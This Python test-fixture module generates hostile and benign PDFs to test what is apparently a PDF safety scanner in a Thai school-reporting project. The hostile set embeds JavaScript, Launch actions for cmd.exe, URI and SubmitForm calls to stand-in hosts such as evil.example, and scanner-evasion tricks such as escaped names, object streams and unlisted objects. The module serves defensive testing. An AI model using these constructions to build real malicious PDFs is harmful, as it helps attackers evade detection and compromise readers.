"""Hostile and benign PDFs, generated here so the corpus needs no binary fixtures.

Two makers: pypdf's writer (what a tool would produce) and a raw builder (what an
attacker writes by hand: ``#xx``-escaped names, object streams, objects no
cross-reference table lists, incremental updates)."""

import io
import zlib

import pypdf
from pypdf.annotations import Highlight, Link, Text
from pypdf.generic import (
    ArrayObject,
    BooleanObject,
    DecodedStreamObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

# -- the raw builder ----------------------------------------------------------------------

PAGE_TREE = {
    1: b"<< /Type /Catalog /Pages 2 0 R >>",
    2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
}


def raw_pdf(objects, *, junk=b""):
    """A classic PDF with a cross-reference table over ``objects`` {number: body};
    ``junk`` is written after the objects but listed nowhere."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + objects[number] + b"\nendobj\n"
    out += junk
    size = max(objects) + 1
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        out += (
            b"%010d 00000 n \n" % offsets[number] if number in offsets else b"0000000000 00000 f \n"
        )
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, xref)
    return bytes(out)


def stream(body, dictionary=b""):
    return b"<< %s /Length %d >>\nstream\n" % (dictionary, len(body)) + body + b"\nendstream"


def objstm_pdf(plain, packed, *, hex_filter=False):
    """A PDF 1.5 file: ``packed`` objects live in an object stream (Flate, or
    ASCIIHex over Flate), found through a cross-reference stream."""
    header = b""
    bodies = b""
    for number in sorted(packed):
        header += b"%d %d " % (number, len(bodies))
        bodies += packed[number] + b" "
    data = zlib.compress(header + bodies)
    filters = b"/Filter /FlateDecode"
    if hex_filter:
        data = data.hex().encode() + b">"
        filters = b"/Filter [/ASCIIHexDecode /FlateDecode]"
    objstm_number = max([*plain, *packed]) + 1
    xref_number = objstm_number + 1
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number in sorted(plain):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + plain[number] + b"\nendobj\n"
    offsets[objstm_number] = len(out)
    out += b"%d 0 obj\n" % objstm_number
    out += stream(data, b"/Type /ObjStm /N %d /First %d %s" % (len(packed), len(header), filters))
    out += b"\nendobj\n"
    offsets[xref_number] = len(out)
    size = xref_number + 1
    rows = bytearray(b"\x00\x00\x00\x00\x00\xff\xff")
    index = {number: i for i, number in enumerate(sorted(packed))}
    for number in range(1, size):
        if number in offsets:
            rows += b"\x01" + offsets[number].to_bytes(4, "big") + b"\x00\x00"
        elif number in index:
            rows += b"\x02" + objstm_number.to_bytes(4, "big") + index[number].to_bytes(2, "big")
        else:
            rows += b"\x00" * 7
    out += b"%d 0 obj\n" % xref_number
    out += stream(bytes(rows), b"/Type /XRef /Size %d /W [1 4 2] /Root 1 0 R" % size)
    out += b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % offsets[xref_number]
    return bytes(out)


def with_catalog(extra, *more):
    objects = dict(PAGE_TREE)
    objects[1] = b"<< /Type /Catalog /Pages 2 0 R " + extra + b" >>"
    objects.update(enumerate(more, start=4))
    return raw_pdf(objects)


def with_page(extra, *more):
    objects = dict(PAGE_TREE)
    objects[3] = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] " + extra + b" >>"
    objects.update(enumerate(more, start=4))
    return raw_pdf(objects)


def incremental(base, number, body, root_body):
    """``base`` with an update appended that adds object ``number`` and a new catalog."""
    reader = pypdf.PdfReader(io.BytesIO(base))
    previous = base.rindex(b"startxref")
    previous_offset = int(base[previous:].split()[1])
    out = bytearray(base)
    offsets = {}
    offsets[1] = len(out)
    out += b"1 0 obj\n" + root_body + b"\nendobj\n"
    offsets[number] = len(out)
    out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    size = max(number + 1, len(reader.xref[0]) + 1)
    xref = len(out)
    out += b"xref\n1 1\n%010d 00000 n \n%d 1\n%010d 00000 n \n" % (
        offsets[1],
        number,
        offsets[number],
    )
    out += b"trailer\n<< /Size %d /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
        size,
        previous_offset,
        xref,
    )
    return bytes(out)


# -- the pypdf writer ---------------------------------------------------------------------


def written(writer):
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def writer_with_pages(pages=1):
    writer = pypdf.PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(595, 842)
    return writer


def action(kind, **entries):
    values = {NameObject("/S"): NameObject(kind)}
    for key, value in entries.items():
        values[NameObject("/" + key)] = value
    return DictionaryObject(values)


def writer_open_action(kind, **entries):
    writer = writer_with_pages()
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(action(kind, **entries))
    return written(writer)


def writer_annotation(subtype, **entries):
    writer = writer_with_pages()
    values = {
        NameObject("/Type"): NameObject("/Annot"),
        NameObject("/Subtype"): NameObject(subtype),
        NameObject("/Rect"): ArrayObject([FloatObject(v) for v in (10, 10, 100, 100)]),
    }
    for key, value in entries.items():
        values[NameObject("/" + key)] = value
    writer.add_annotation(0, DictionaryObject(values))
    return written(writer)


def writer_link(kind, **entries):
    return writer_annotation("/Link", A=action(kind, **entries))


def writer_attachment():
    writer = writer_with_pages()
    writer.add_attachment("payload.exe", b"MZ\x90\x00")
    return written(writer)


def writer_js_name_tree():
    writer = writer_with_pages()
    js = writer._add_object(action("/JavaScript", JS=TextStringObject("app.alert(1)")))
    tree = DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("a"), js])})
    names = DictionaryObject({NameObject("/JavaScript"): writer._add_object(tree)})
    writer._root_object[NameObject("/Names")] = writer._add_object(names)
    return written(writer)


def writer_field(with_js):
    writer = writer_with_pages()
    field = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Widget"),
            NameObject("/FT"): NameObject("/Tx"),
            NameObject("/T"): TextStringObject("ชื่อโรงเรียน"),
            NameObject("/Rect"): ArrayObject([FloatObject(v) for v in (50, 700, 300, 720)]),
        }
    )
    if with_js:
        field[NameObject("/AA")] = DictionaryObject(
            {NameObject("/K"): action("/JavaScript", JS=TextStringObject("event.rc=true"))}
        )
    reference = writer._add_object(field)
    writer.pages[0][NameObject("/Annots")] = ArrayObject([reference])
    writer._root_object[NameObject("/AcroForm")] = DictionaryObject(
        {NameObject("/Fields"): ArrayObject([reference])}
    )
    return written(writer)


def writer_xfa():
    writer = writer_with_pages()
    xfa = DecodedStreamObject()
    xfa.set_data(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><script>x</script></xdp:xdp>")
    writer._root_object[NameObject("/AcroForm")] = DictionaryObject(
        {NameObject("/Fields"): ArrayObject(), NameObject("/XFA"): writer._add_object(xfa)}
    )
    return written(writer)


def writer_catalog_aa():
    writer = writer_with_pages()
    writer._root_object[NameObject("/AA")] = DictionaryObject(
        {NameObject("/WC"): action("/JavaScript", JS=TextStringObject("app.alert(2)"))}
    )
    return written(writer)


def writer_page_aa():
    writer = writer_with_pages()
    writer.pages[0][NameObject("/AA")] = DictionaryObject(
        {NameObject("/O"): action("/Launch", F=TextStringObject("cmd.exe"))}
    )
    return written(writer)


def writer_next_chain():
    # A harmless GoTo whose /Next runs JavaScript.
    writer = writer_with_pages()
    first = action(
        "/GoTo",
        D=ArrayObject([writer.pages[0].indirect_reference, NameObject("/Fit")]),
        Next=action("/JavaScript", JS=TextStringObject("app.alert(3)")),
    )
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(first)
    return written(writer)


def writer_outline_js():
    writer = writer_with_pages()
    item = writer.add_outline_item(title="บทที่ 1", page_number=0)
    item_object = item.get_object()
    item_object[NameObject("/A")] = action("/JavaScript", JS=TextStringObject("app.alert(4)"))
    return written(writer)


def js_stream_open_action():
    return with_catalog(
        b"/OpenAction 4 0 R",
        b"<< /S /JavaScript /JS 5 0 R >>",
        stream(b"app.launchURL('http://evil.example/');"),
    )


JS = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"


def hostile_corpus():
    return {
        "OpenAction JavaScript": writer_open_action(
            "/JavaScript", JS=TextStringObject("app.alert(1)")
        ),
        "OpenAction JavaScript stream": js_stream_open_action(),
        "JavaScript name tree": writer_js_name_tree(),
        "catalog AA JavaScript": writer_catalog_aa(),
        "page AA Launch": writer_page_aa(),
        "field AA keystroke JavaScript": writer_field(with_js=True),
        "GoTo with Next JavaScript": writer_next_chain(),
        "outline item JavaScript": writer_outline_js(),
        "OpenAction URI": writer_open_action("/URI", URI=TextStringObject("http://evil.example/")),
        "link URI": writer_link("/URI", URI=TextStringObject("https://phish.example/login")),
        "link Launch": writer_link("/Launch", F=TextStringObject("cmd.exe")),
        "OpenAction Launch Win": writer_open_action(
            "/Launch", Win=DictionaryObject({NameObject("/F"): TextStringObject("calc.exe")})
        ),
        "link GoToR": writer_link("/GoToR", F=TextStringObject("\\\\evil\\share\\x.pdf")),
        "link GoToE": writer_link("/GoToE", T=DictionaryObject()),
        "OpenAction ImportData": writer_open_action("/ImportData", F=TextStringObject("x.fdf")),
        "link SubmitForm": writer_link("/SubmitForm", F=TextStringObject("http://evil.example/")),
        "OpenAction Rendition": writer_open_action("/Rendition", OP=NumberObject(0)),
        "OpenAction Sound": writer_open_action("/Sound"),
        "embedded file (add_attachment)": writer_attachment(),
        "FileAttachment annotation": writer_annotation(
            "/FileAttachment", Contents=TextStringObject("x")
        ),
        "RichMedia annotation": writer_annotation("/RichMedia"),
        "Screen annotation": writer_annotation("/Screen"),
        "XFA form": writer_xfa(),
        "escaped JavaScript name": with_catalog(b"/OpenAction << /S /J#61vaScript /JS (x) >>"),
        "escaped JS key": with_catalog(b"/OpenAction << /S /JavaScript /#4A#53 (x) >>"),
        "escaped URI action": with_page(
            b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /U#52I /URI (http://e.example) >> >>]"
        ),
        "escaped Launch action": with_catalog(b"/OpenAction << /S /L#61#75nch /F (cmd.exe) >>"),
        "escaped EmbeddedFiles": with_catalog(b"/Names << /Embedded#46iles << /Names [] >> >>"),
        "JavaScript in object stream": objstm_pdf(
            {2: PAGE_TREE[2], 3: PAGE_TREE[3]},
            {1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>", 4: JS},
        ),
        "JavaScript in hex-filtered object stream": objstm_pdf(
            {2: PAGE_TREE[2], 3: PAGE_TREE[3]},
            {1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>", 4: JS},
            hex_filter=True,
        ),
        "Launch in object stream, escaped": objstm_pdf(
            {2: PAGE_TREE[2], 3: PAGE_TREE[3]},
            {
                1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
                4: b"<< /S /#4Caunch /F (x) >>",
            },
        ),
        "object outside the xref table": raw_pdf(PAGE_TREE, junk=b"9 0 obj\n" + JS + b"\nendobj\n"),
        "incremental update adds JavaScript": incremental(
            raw_pdf(PAGE_TREE), 4, JS, b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>"
        ),
        "EmbeddedFile stream": with_catalog(
            b"", stream(b"MZ\x90\x00", b"/Type /EmbeddedFile /Subtype /application#2Foctet-stream")
        ),
        "mouse-up URI on a page annotation": with_page(
            b"/Annots [<< /Type /Annot /Subtype /Square /Rect [0 0 9 9] /AA << /U << /S /URI /URI (http://e.example) >> >> >>]"
        ),
    }


# -- benign -------------------------------------------------------------------------------


def internal_link():
    writer = writer_with_pages(3)
    writer.add_annotation(0, Link(rect=(50, 50, 200, 80), target_page_index=2))
    return written(writer)


def outlines():
    writer = writer_with_pages(4)
    chapter = writer.add_outline_item(title="มาตรฐานที่ 1 คุณภาพของผู้เรียน", page_number=0)
    writer.add_outline_item(title="1.1 ผลสัมฤทธิ์ทางวิชาการ", page_number=1, parent=chapter)
    writer.add_outline_item(title="มาตรฐานที่ 2", page_number=3)
    return written(writer)


def open_at_page_two():
    writer = writer_with_pages(2)
    writer.open_destination = writer.pages[1]
    return written(writer)


def form_without_js():
    return writer_field(with_js=False)


def checkbox_form():
    writer = writer_with_pages()
    field = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Widget"),
            NameObject("/FT"): NameObject("/Btn"),
            NameObject("/T"): TextStringObject("ผ่าน"),
            NameObject("/V"): NameObject("/Off"),
            NameObject("/Rect"): ArrayObject([FloatObject(v) for v in (50, 700, 70, 720)]),
        }
    )
    reference = writer._add_object(field)
    writer.pages[0][NameObject("/Annots")] = ArrayObject([reference])
    writer._root_object[NameObject("/AcroForm")] = DictionaryObject(
        {
            NameObject("/Fields"): ArrayObject([reference]),
            NameObject("/NeedAppearances"): BooleanObject(True),
        }
    )
    return written(writer)


def image_pdf(noise, filter_name):
    """An image whose data contains the very bytes the raw scan looks for: names inside
    stream bodies are binary noise and must not refuse the file."""
    writer = writer_with_pages()
    image = DecodedStreamObject()
    image.set_data(noise)
    image.update(
        {
            NameObject("/Type"): NameObject("/XObject"),
            NameObject("/Subtype"): NameObject("/Image"),
            NameObject("/Width"): NumberObject(16),
            NameObject("/Height"): NumberObject(16),
            NameObject("/ColorSpace"): NameObject("/DeviceGray"),
            NameObject("/BitsPerComponent"): NumberObject(8),
        }
    )
    if filter_name:
        image[NameObject("/Filter")] = NameObject(filter_name)
    page = writer.pages[0]
    page[NameObject("/Resources")] = DictionaryObject(
        {NameObject("/XObject"): DictionaryObject({NameObject("/Im1"): writer._add_object(image)})}
    )
    content = DecodedStreamObject()
    content.set_data(b"q 100 0 0 100 50 600 cm /Im1 Do Q")
    page[NameObject("/Contents")] = writer._add_object(content)
    return written(writer)


def thai_text_pdf():
    """A Thai official report from the project's PDF engine (Sarabun, Thai numerals)."""
    from iqa_district.pdf import render_pdf
    from iqa_district.pdf.specimen import specimen_context

    return render_pdf("pdf/_specimen.html", specimen_context(sections=1))


def thai_metadata():
    writer = writer_with_pages(2)
    writer.add_metadata({"/Title": "รายงานผลการประเมินตนเอง", "/Author": "โรงเรียนบ้านหนองบัว"})
    return written(writer)


def compressed_content():
    writer = writer_with_pages(2)
    for page in writer.pages:
        content = DecodedStreamObject()
        content.set_data(b"BT /F1 12 Tf 72 700 Td (JavaScript /JS /URI course outline) Tj ET")
        page[NameObject("/Contents")] = writer._add_object(content)
        page.compress_content_streams()
    return written(writer)


def page_labels():
    writer = writer_with_pages(6)
    writer.set_page_label(0, 1, "/r")
    writer.set_page_label(2, 5, "/D", start=1)
    return written(writer)


def mixed_sizes():
    writer = pypdf.PdfWriter()
    writer.add_blank_page(595, 842)
    writer.add_blank_page(842, 595)
    writer.add_blank_page(612, 1008).rotate(90)
    return written(writer)


def sticky_notes():
    writer = writer_with_pages()
    writer.add_annotation(0, Text(rect=(50, 550, 70, 570), text="ตรวจสอบแล้ว", open=False))
    writer.add_annotation(
        0,
        Highlight(
            rect=(50, 550, 200, 650),
            quad_points=ArrayObject(
                [FloatObject(v) for v in (50, 650, 200, 650, 50, 550, 200, 550)]
            ),
        ),
    )
    return written(writer)


def named_destination():
    writer = writer_with_pages(3)
    writer.add_named_destination("standard-2", 2)
    writer.add_annotation(0, Link(rect=(50, 50, 200, 80), target_page_index=2))
    return written(writer)


def xmp_metadata():
    writer = writer_with_pages()
    xmp = DecodedStreamObject()
    xmp.set_data(
        b'<?xpacket begin=""?><x:xmpmeta xmlns:x="adobe:ns:meta/">'
        b"<rdf:RDF/></x:xmpmeta><?xpacket end='w'?>"
    )
    xmp.update(
        {NameObject("/Type"): NameObject("/Metadata"), NameObject("/Subtype"): NameObject("/XML")}
    )
    writer._root_object[NameObject("/Metadata")] = writer._add_object(xmp)
    return written(writer)


def benign_objstm():
    return objstm_pdf(
        {3: PAGE_TREE[3]},
        {1: b"<< /Type /Catalog /Pages 2 0 R /PageMode /UseOutlines >>", 2: PAGE_TREE[2]},
    )


def benign_incremental():
    base = raw_pdf(PAGE_TREE)
    return incremental(
        base,
        4,
        b"<< /Title (SAR 2567) /Producer (LibreOffice) >>",
        b"<< /Type /Catalog /Pages 2 0 R /Lang (th-TH) >>",
    )


NOISE = bytes(range(256)) + b" /JavaScript /JS /Launch /URI /EmbeddedFiles " * 4


def benign_corpus():
    return {
        "blank page": written(writer_with_pages()),
        "fifty pages": written(writer_with_pages(50)),
        "Thai report from the PDF engine": thai_text_pdf(),
        "link inside the document (GoTo)": internal_link(),
        "outline of GoTo bookmarks": outlines(),
        "opens at page two (GoTo OpenAction)": open_at_page_two(),
        "text field without JavaScript": form_without_js(),
        "checkbox form": checkbox_form(),
        "image with name-like bytes": image_pdf(NOISE[:256], None),
        "flate image with name-like bytes": image_pdf(zlib.compress(NOISE[:256]), "/FlateDecode"),
        "JPEG-filtered image": image_pdf(b"\xff\xd8\xff\xe0" + NOISE[:252], "/DCTDecode"),
        "Thai metadata": thai_metadata(),
        "compressed content mentioning JavaScript": compressed_content(),
        "page labels": page_labels(),
        "mixed page sizes and rotation": mixed_sizes(),
        "sticky note and highlight": sticky_notes(),
        "named destination": named_destination(),
        "XMP metadata": xmp_metadata(),
        "object stream of plain dictionaries": benign_objstm(),
        "incremental update (new info and language)": benign_incremental(),
        "raw one-page file": raw_pdf(PAGE_TREE),
    }
